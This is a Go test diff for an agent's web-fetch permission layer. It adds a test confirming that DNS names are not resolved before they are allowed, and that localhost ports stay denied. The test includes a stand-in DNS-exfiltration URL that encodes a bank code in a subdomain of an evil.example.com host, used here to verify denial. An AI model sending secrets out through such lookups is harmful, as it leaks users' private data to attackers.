@@ -4,6 +4,7 @@ import (
 	"context"
 	"encoding/json"
 	"io"
+	"net"
 	"net/http"
 	"net/http/httptest"
 	"strings"
@@ -132,6 +133,38 @@ func TestAddressesThatAreNeverFetched(t *testing.T) {
 	// Helix's own ports cannot be reached even if they were allowed.
 	e.asks("web.fetch", in{"url": "http://localhost:18789/"}, "always")
 	e.fails(fault.Denied, "web.fetch", in{"url": "http://localhost:18789/"})
+}
+
+// No name is looked up before it is allowed: the question alone would carry data to whoever owns the
+// name, in its first label.
+func TestNamesAreNotLookedUpBeforeTheyAreAllowed(t *testing.T) {
+	t.Parallel()
+	dns := safehttptest.NewDNS(t)
+	var lookups atomic.Int64
+	e := setup(t, func(o *Options) {
+		o.HTTP = func(so safehttp.Options) *safehttp.Client {
+			r := dns.Resolver()
+			dial := r.Dial
+			r.Dial = func(ctx context.Context, network, address string) (net.Conn, error) {
+				lookups.Add(1)
+				return dial(ctx, network, address)
+			}
+			so.Resolver = r
+			return safehttp.New(so)
+		}
+	})
+	const allowed, other = "https://allowed.example.com/", "https://the-bank-code-is-4711.evil.example.com/"
+	e.asks("web.fetch", in{"url": allowed}, "always")
+	if n := lookups.Load(); n != 0 {
+		t.Errorf("%d lookups for a question", n)
+	}
+	if _, err := e.call("web.fetch", in{"url": allowed}); err == nil || lookups.Swap(0) == 0 {
+		t.Errorf("an allowed name is not looked up: %v", err)
+	}
+	e.fails(fault.Denied, "web.fetch", in{"url": other})
+	if n := lookups.Load(); n != 0 {
+		t.Errorf("%d lookups of a name that is not allowed", n)
+	}
 }
 
 // A name that was allowed and resolves to an internal address, at once or at the second lookup,
